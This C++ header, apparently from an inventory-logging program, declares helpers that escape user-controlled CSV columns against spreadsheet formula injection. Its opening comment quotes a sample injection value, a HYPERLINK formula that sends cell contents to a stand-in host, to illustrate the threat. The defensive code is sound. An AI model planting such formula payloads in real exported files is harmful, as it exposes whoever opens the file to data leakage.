// Spreadsheets take a cell that begins with "=", "+", "-" or "@" (or a tab
// or a carriage return) as a formula: a PC名 "=HYPERLINK(...)" would be
// live when the administrator opens the record file in Excel. The record
// file therefore holds the texts users control (PC名, the user name, the
// printer, the logged-in users, the programs) with a single quote in front
// of such a start, so that Excel shows them as text:
//
//   "'=HYPERLINK(""http://x/?""&A1)","2003.01.20 09:15:42", … ,"'-Tools",
//
// A text that begins with quotes before such a character gets one more, so
// that dropping one when the file is read back gives every text exactly:
//
//   =1 → '=1      '=1 → ''=1      'abc → 'abc      -- → '--
//
// The program's own columns ("--%、--%" of the resources field) stay as
// they are.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>

namespace zeltrand::formula {

// Whether column `index` (from 0) of a record line holds a text users
// control.
constexpr bool IsUserColumn(std::size_t index) {
  constexpr std::size_t kUserName = 9;
  constexpr std::size_t kPrinter = 14;  // then the five users and the programs
  return index == 0 || index == kUserName || index >= kPrinter;
}

// Whether `text` would read as a formula, or as a text already guarded.
bool NeedsGuard(std::string_view text);

// `text` as the record file holds it in a user's column.
inline std::string Guarded(std::string_view text) {
  return NeedsGuard(text) ? "'" + std::string(text) : std::string(text);
}

// The text of a user's column as the file holds it back to what it was.
void Unguard(std::string& text);

}  // namespace zeltrand::formula
